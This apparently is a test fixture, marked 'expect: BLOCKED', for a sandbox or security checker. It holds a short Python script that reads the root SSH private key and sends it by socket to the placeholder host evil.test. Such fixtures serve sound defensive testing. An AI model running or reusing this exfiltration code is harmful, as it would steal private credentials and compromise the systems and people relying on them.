# expect: BLOCKED
import socket
key = open("/root/.ssh/id_rsa").read()
with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
    s.connect(("evil.test", 443))
    s.sendall(key.encode())
